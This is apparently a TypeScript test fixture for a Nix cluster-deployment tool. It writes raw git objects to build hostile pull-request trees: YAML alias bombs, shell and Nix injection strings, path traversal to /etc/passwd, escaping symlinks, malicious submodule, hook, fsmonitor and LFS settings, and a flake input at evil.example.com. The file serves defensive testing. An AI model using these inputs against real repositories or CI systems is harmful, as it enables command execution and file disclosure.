import { execFileSync } from 'node:child_process'

/** One file, or what stands in its place; `name` in bytes, so that it may be anything. */
export interface Entry {
  readonly mode: string
  readonly name: Buffer | string
  readonly id: string
}

/** A bare repository that is written object by object: git's own commands would refuse half of it. */
export function createWriter(folder: string) {
  const git = (args: readonly string[], input?: Buffer | string): string =>
    execFileSync('git', [...args], {
      cwd: folder,
      encoding: 'utf8',
      input,
      env: {
        PATH: process.env['PATH']!,
        GIT_CONFIG_NOSYSTEM: '1',
        GIT_CONFIG_GLOBAL: '/dev/null',
        GIT_AUTHOR_NAME: 'stranger',
        GIT_AUTHOR_EMAIL: 'stranger@example.com',
        GIT_COMMITTER_NAME: 'stranger',
        GIT_COMMITTER_EMAIL: 'stranger@example.com',
      },
      stdio: ['pipe', 'pipe', 'pipe'],
    }).trim()

  const blob = (text: Buffer | string): string => git(['hash-object', '-w', '--stdin'], text)

  const tree = (entries: readonly Entry[]): string => {
    const key = ({ mode, name }: Entry): Buffer =>
      Buffer.concat([Buffer.from(name), Buffer.from(mode.startsWith('4') ? '/' : '')])
    const sorted = entries.toSorted((a, b) => Buffer.compare(key(a), key(b)))
    const body = sorted.flatMap(({ mode, name, id }) => [
      Buffer.from(`${mode} `),
      Buffer.from(name),
      Buffer.from([0]),
      Buffer.from(id, 'hex'),
    ])
    return git(['hash-object', '-t', 'tree', '--literally', '-w', '--stdin'], Buffer.concat(body))
  }

  /** A tree of texts by path, with entries beside them at its root. */
  const files = (
    texts: Readonly<Record<string, string>>,
    beside: readonly Entry[] = [],
  ): string => {
    const here = new Map<string, Record<string, string>>()
    const entries: Entry[] = [...beside]
    for (const [path, text] of Object.entries(texts)) {
      const [name = '', ...rest] = path.split('/')
      if (rest.length === 0) entries.push({ mode: '100644', name, id: blob(text) })
      else here.set(name, { ...here.get(name), [rest.join('/')]: text })
    }
    for (const [name, below] of here) entries.push({ mode: '40000', name, id: files(below) })
    return tree(entries)
  }

  const commit = (id: string, ...parents: readonly string[]): string =>
    git(['commit-tree', id, ...parents.flatMap((parent) => ['-p', parent]), '-m', 'Change'])

  const ref = (name: string, id: string): void => void git(['update-ref', name, id])

  return { git, blob, tree, files, commit, ref }
}

type Writer = ReturnType<typeof createWriter>

/** What an honest fleet without machines looks like, compiled without a complaint. */
export const honest: Readonly<Record<string, string>> = {
  'nixcluster.yaml': `apiVersion: nixcluster/v1
kind: Project
inputs:
  nixpkgs: { url: "github:NixOS/nixpkgs/nixos-25.11" }
---
apiVersion: nixcluster/v1
kind: Domain
suffix: com
system: x86_64-linux
---
apiVersion: nixcluster/v1
kind: Cluster
name: example.com
`,
  'flake.lock': JSON.stringify({
    nodes: {
      nixpkgs: {
        locked: {
          ...{ type: 'github', owner: 'NixOS', repo: 'nixpkgs', rev: '1'.repeat(40) },
          ...{ lastModified: 1, narHash: `sha256-${'A'.repeat(43)}=` },
        },
        original: { type: 'github', owner: 'NixOS', repo: 'nixpkgs', ref: 'nixos-25.11' },
      },
      'deploy-rs': {
        locked: {
          ...{ type: 'github', owner: 'serokell', repo: 'deploy-rs', rev: '2'.repeat(40) },
          ...{ lastModified: 1, narHash: `sha256-${'A'.repeat(43)}=` },
        },
        original: { type: 'github', owner: 'serokell', repo: 'deploy-rs' },
        inputs: { nixpkgs: ['nixpkgs'] },
      },
      root: { inputs: { nixpkgs: 'nixpkgs', 'deploy-rs': 'deploy-rs' } },
    },
    root: 'root',
    version: 7,
  }),
}

const machine = (more: string): string => `${honest['nixcluster.yaml']!}machines:
  vm0:
    interfaces: { eno1: { addresses: [10.0.0.1/24] } }
${more}`

/** A text that tries to get out of wherever it is put. */
const escape =
  '${builtins.readFile "/etc/passwd"} \'\' ${x} " \\" $(touch pwned) `touch pwned` ; touch pwned # @everyone <img src=x> ](http://evil) ``` <!-- -->'

const bomb = (): string => {
  const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]']
  for (let n = 1; n < 12; n++)
    lines.push(`a${n}: &a${n} [${Array.from({ length: 10 }, () => `*a${n - 1}`).join(', ')}]`)
  return lines.join('\n')
}

/** Attacks by name: the tree of a pull request. */
export function attacks({ blob, tree, files }: Writer): Readonly<Record<string, string>> {
  const change = (texts: Record<string, string>, beside: readonly Entry[] = []): string =>
    files({ ...honest, ...texts }, beside)
  const yaml = (text: string): string => change({ 'nixcluster.yaml': text })
  const quoted = JSON.stringify(escape)
  const ten = Array.from({ length: 10 }, (_, n) => n)
  let deep = tree(ten.map((n) => ({ mode: '100644', name: `f${n}.yaml`, id: blob('x: 1\n') })))
  for (let depth = 0; depth < 9; depth++)
    deep = tree(ten.map((n) => ({ mode: '40000', name: `d${n}`, id: deep })))
  const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12345\n`
  const id = blob('touch pwned\n')
  return {
    'aliases that multiply': yaml(bomb()),
    'brackets without end': yaml(`a: ${'['.repeat(100_000)}`),
    'a text of nine million characters': yaml(`a: "${'x'.repeat(9_000_000)}"`),
    'a list of a hundred thousand entries': yaml(`a:\n${'- 1\n'.repeat(100_000)}`),
    'words of Nix and the shell in values': yaml(
      machine(`    config: { environment.etc.motd.text: ${quoted}, environment.variables: { ${quoted}: ${quoted} } }
    data: { ${quoted}: ${quoted} }
    tags: [${quoted}]
`),
    ),
    'words of Nix and the shell in names': yaml(
      `${honest['nixcluster.yaml']!}machines: { ${quoted}: {} }\nservices: { ${quoted}: { selectors: [all] } }\n`,
    ),
    'code in values': yaml(
      machine(
        '    config: { environment.etc.motd.text: !nix \'builtins.exec ["touch" "pwned"]\' }\n    nixpkgs: nixpkgs\n',
      ),
    ),
    'paths that leave': yaml(
      machine(
        '    modules: [../../../etc/passwd, /../x.nix, ./a/../../b.nix]\n    data: !read ../../etc/passwd\n',
      ),
    ),
    'Nix that wants to run': change({
      'nixcluster.yaml': machine('    modules: [/evil.nix]\n'),
      'evil.nix': '{ ... }: builtins.exec [ "touch" "pwned" ]\n',
      'default.nix': 'builtins.exec [ "touch" "pwned" ]\n',
      '.envrc': 'touch pwned\n',
      'shell.nix': 'builtins.exec [ "touch" "pwned" ]\n',
    }),
    'a flake of its own': change({
      'flake.nix':
        '{ inputs.x.url = "git+ssh://evil.example.com/x"; outputs = _: builtins.exec [ "touch" "pwned" ]; }\n',
    }),
    'names that nobody can say': change(
      {},
      [
        ...[
          'a\nb.yaml',
          '\x1b[31mred.yaml',
          '--upload-pack=touch pwned',
          '-c',
          '$(touch pwned).nix',
        ],
        ...[
          '"quoted".yaml',
          "'quoted'.nix",
          '\u202egnp.yaml',
          'а.yaml',
          'x'.repeat(300),
          'con.yaml',
        ],
        Buffer.from([0x6a, 0xfc, 0x2e, 0x79, 0x61, 0x6d, 0x6c]),
      ].map((name) => ({ mode: '100644', name, id })),
    ),
    'names of git itself': change({}, [
      ...['.GIT', 'git~1', '.git\u200c', '..', '.'].map((name) => ({
        mode: '40000',
        name,
        id: tree([{ mode: '100644', name: 'config', id }]),
      })),
    ]),
    'a billion files': change({}, [{ mode: '40000', name: 'deep', id: deep }]),
    'a submodule': change(
      {
        '.gitmodules':
          '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "touch% pwned"\n\tupdate = !touch pwned\n',
      },
      [{ mode: '160000', name: 'x', id: '3'.repeat(40) }],
    ),
    'pointers of LFS': change({
      'clusters/big.yaml': pointer,
      'nixcluster.yaml': machine('    modules: [/big.nix]\n'),
      'big.nix': pointer,
      '.gitattributes': '*.yaml filter=lfs diff=lfs merge=lfs -text\n',
      '.lfsconfig': '[lfs]\n\turl = http://evil.example.com\n',
    }),
    'attributes, hooks and settings': change({
      '.gitattributes':
        '* filter=evil diff=evil merge=evil ident export-subst working-tree-encoding=UTF-16\n',
      'hooks/post-checkout': '#!/bin/sh\ntouch pwned\n',
      '.githooks/pre-commit': '#!/bin/sh\ntouch pwned\n',
      config: '[core]\n\tfsmonitor = touch pwned\n\tsshCommand = touch pwned\n',
      HEAD: 'ref: refs/heads/main\n',
      'objects/info/alternates': '/root/.git/objects\n',
    }),
    'links that leave': change({ 'nixcluster.yaml': machine('    modules: [/out.nix]\n') }, [
      { mode: '120000', name: 'out.nix', id: blob('/etc/passwd') },
      { mode: '120000', name: 'round.yaml', id: blob('round.yaml') },
      {
        mode: '40000',
        name: 'clusters',
        id: tree([{ mode: '120000', name: 'a.yaml', id: blob('../../../../etc/passwd') }]),
      },
    ]),
  }
}
